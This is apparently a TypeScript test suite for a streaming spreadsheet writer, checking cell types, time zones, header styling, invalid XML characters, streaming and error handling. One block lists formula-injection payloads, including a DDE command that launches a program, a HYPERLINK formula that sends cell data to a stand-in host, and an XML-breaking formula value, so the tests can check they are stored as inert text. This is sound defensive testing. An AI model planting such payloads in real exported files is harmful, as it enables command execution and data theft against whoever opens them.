import { readXlsx } from 'hucre/xlsx';
import { Buffer } from 'node:buffer';
import { once } from 'node:events';
import { buffer } from 'node:stream/consumers';
import { readSheet } from 'read-excel-file/node';
import type { Spreadsheet } from './write-spreadsheet.ts';
import { writeSpreadsheet } from './write-spreadsheet.ts';

interface Row {
  readonly name: string;
  readonly days?: number;
  readonly due?: string;
  readonly at?: Date;
}

async function* each(rows: readonly Row[]): AsyncGenerator<Row> {
  yield* rows;
}

const sheetOf = (rows: AsyncIterable<Row>, heading: readonly string[] = []): Spreadsheet<Row> => ({
  sheetName: 'Sheet',
  heading,
  timeZone: 'Europe/Amsterdam',
  columns: [
    { header: 'Name', width: 30, kind: 'text', value: ({ name }) => name },
    { header: 'Days', width: 8, kind: 'number', value: ({ days }) => days ?? null },
    { header: 'Due', width: 12, kind: 'date', value: ({ due }) => due ?? null },
    { header: 'At', width: 18, kind: 'instant', value: ({ at }) => at ?? null },
  ],
  rows,
});

async function write(rows: readonly Row[], heading?: readonly string[]): Promise<Buffer> {
  return buffer(await writeSpreadsheet(sheetOf(each(rows), heading)));
}

const namesIn = async (file: Buffer): Promise<readonly unknown[]> =>
  (await readSheet(file)).slice(1).map(([name]) => name);

test('numbers are numbers, dates are dates, and instants say what the clock of the zone said', async () => {
  const at = [new Date('2026-10-25T00:30:00Z'), new Date('2026-10-25T01:30:00Z')] as const;
  const file = await write([
    { name: 'Ana', days: -3, due: '2026-11-25', at: at[0] },
    { name: 'Ben', days: 0, at: at[1] },
  ]);
  expect(await readSheet(file)).toEqual([
    ['Name', 'Days', 'Due', 'At'],
    ['Ana', -3, new Date('2026-11-25T00:00:00Z'), new Date('2026-10-25T02:30:00Z')],
    // The clock went back at three.
    ['Ben', 0, null, new Date('2026-10-25T02:30:00Z')],
  ]);
});

test('the header is bold and stays in sight, and columns have their widths', async () => {
  const { sheets } = await readXlsx(await write([{ name: 'Ana' }], ['Report', 'Acme']), { readStyles: true });
  const [sheet] = sheets;
  expect(sheet?.rows.map(([first]) => first)).toEqual(['Report', 'Acme', null, 'Name', 'Ana']);
  expect(sheet?.freezePane).toMatchObject({ rows: 4 });
  const isBold = (row: number) => sheet?.cells?.get(`${row},0`)?.style?.font?.bold === true;
  expect([0, 1, 3, 4].map(isBold)).toEqual([true, false, true, false]);
  expect(sheet?.columns?.map(({ width }) => width)).toEqual([30, 8, 12, 18]);
});

describe('[S9] a text is text, whatever it begins with', () => {
  const HOSTILE = [
    '=cmd|"/c calc"!A1',
    '=HYPERLINK("https://evil.test?"&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '<f>1+1</f>',
    ']]></t></is><f>1+1</f>',
    "'=1+1",
    '00123',
    'TRUE',
    '2026-11-23',
  ];

  test('it reads as it was typed, is no formula, and stays text when it is edited', async () => {
    const file = await write(HOSTILE.map((name) => ({ name })));
    expect(await namesIn(file)).toEqual(HOSTILE.map((text) => (text.startsWith('\t') ? text.trim() : text)));
    const { sheets } = await readXlsx(file, { readStyles: true });
    for (const [index, text] of HOSTILE.entries()) {
      const cell = sheets[0]?.cells?.get(`${index + 1},0`);
      expect(cell).toMatchObject({ type: 'string', value: text, style: { numFmt: '@' } });
      expect(cell?.formula).toBeUndefined();
    }
  });

  test('what XML cannot hold is left out, and the file opens', async () => {
    const file = await write([
      { name: 'a\u0000b\u0008c\u001bd\u0085e\ufffef' },
      { name: '\ud83d' },
      { name: 'one\r\ntwo\rthree' },
      { name: '😀 & <b> "Łódź" 語' },
      { name: `${'x'.repeat(32_766)}😀` },
      { name: '' },
      { name: 'last' },
    ]);
    const { sheets } = await readXlsx(file);
    expect(sheets[0]?.rows.slice(1).map(([name]) => name)).toEqual([
      'abcdef',
      '\ufffd',
      'one\ntwo\nthree',
      '😀 & <b> "Łódź" 語',
      `${'x'.repeat(32_766)}\ufffd`,
      null,
      'last',
    ]);
  });
});

describe('rows are written as they are read', () => {
  test('before the last one is there, the first ones are on their way, and the rest waits for the reader', async () => {
    let read = 0;
    const rows = (async function* () {
      for (; read < 400_000; read += 1) yield { name: `Person ${Math.random()} ${read}` };
    })();
    const content = await writeSpreadsheet(sheetOf(rows));
    let size = 0;
    for await (const chunk of content) {
      size += (chunk as Buffer).length;
      if (size > 100_000) break;
    }
    expect(read).toBeGreaterThan(0);
    expect(read).toBeLessThan(100_000);
  });

  test('who stops reading stops the rows', async () => {
    let isDone = false;
    const rows = (async function* () {
      try {
        for (let index = 0; ; index += 1) yield { name: `Person ${Math.random()} ${index}` };
      } finally {
        isDone = true;
      }
    })();
    const content = await writeSpreadsheet(sheetOf(rows));
    await once(content, 'readable');
    const closed = once(content, 'close');
    content.destroy();
    await closed;
    // The rows end with the piece that is being packed.
    while (!isDone) await new Promise(setImmediate);
    expect(isDone).toBe(true);
  });

  test('what the first row throws is thrown before there is a file, what a later one throws breaks it off', async () => {
    const failAt = (last: number) =>
      (async function* () {
        for (let index = 0; index < last; index += 1) yield { name: `Person ${index}` };
        throw new Error('the database is away');
      })();
    await expect(writeSpreadsheet(sheetOf(failAt(0)))).rejects.toThrow('the database is away');
    const content = await writeSpreadsheet(sheetOf(failAt(5_000)));
    await expect(buffer(content)).rejects.toThrow('the database is away');
  });

  test('a table without rows is a file, too', async () => {
    expect(await readSheet(await write([]))).toEqual([['Name', 'Days', 'Due', 'At']]);
  });
});
